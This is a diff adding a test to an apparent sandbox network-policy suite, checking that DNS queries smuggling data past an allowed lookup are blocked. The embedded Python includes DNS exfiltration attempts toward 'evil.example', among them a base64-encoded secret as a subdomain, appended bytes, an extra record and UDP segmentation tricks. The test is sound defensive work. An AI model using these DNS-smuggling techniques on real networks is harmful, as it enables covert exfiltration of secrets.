@@ -221,6 +221,36 @@ tell("call", lambda: call("127.88.20.8"))`);
     expect(told).toEqual({ answered: denied, call: denied });
   });
 
+  it("are not asked for with more behind them: a second question that the kernel cuts off, bytes, records", async () => {
+    const { told, recording } = await run(`
+allowed, secret = question("exact.example"), question("c2VjcmV0.evil.example")
+options = b"\\0\\0\\x29\\x04\\xd0\\0\\0\\0\\0\\0\\0"
+text = b"\\0\\0\\x10\\0\\1\\0\\0\\0\\0\\0\\7\\6secret"
+def with_record(record): return allowed[:11] + b"\\1" + allowed[12:] + record
+def send(message, cut=0):
+  with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+    if cut: s.setsockopt(17, 103, cut) # UDP_SEGMENT
+    s.sendto(message, ("${resolver}", 53))
+tell("alone", lambda: send(allowed))
+tell("options", lambda: send(with_record(options)))
+tell("cut", lambda: send(allowed.ljust(len(secret), b"\\0") + secret, len(secret)))
+tell("bytes", lambda: send(allowed + b"secret"))
+tell("record", lambda: send(with_record(text)))
+tell("behind", lambda: send(with_record(options) + b"secret"))`);
+    expect(told).toEqual({
+      alone: "ok",
+      options: "ok",
+      cut: denied,
+      bytes: denied,
+      record: denied,
+      behind: denied,
+    });
+    const results = ofType(recording, "network.result").filter(
+      ({ result }) => result === "blocked",
+    );
+    expect(results).toHaveLength(4);
+  });
+
   it("that are not allowed are not even asked for, and the question is told", async () => {
     const { told, recording } = await run(`
 tell("udp", lambda: ask("c2VjcmV0.evil.example"))
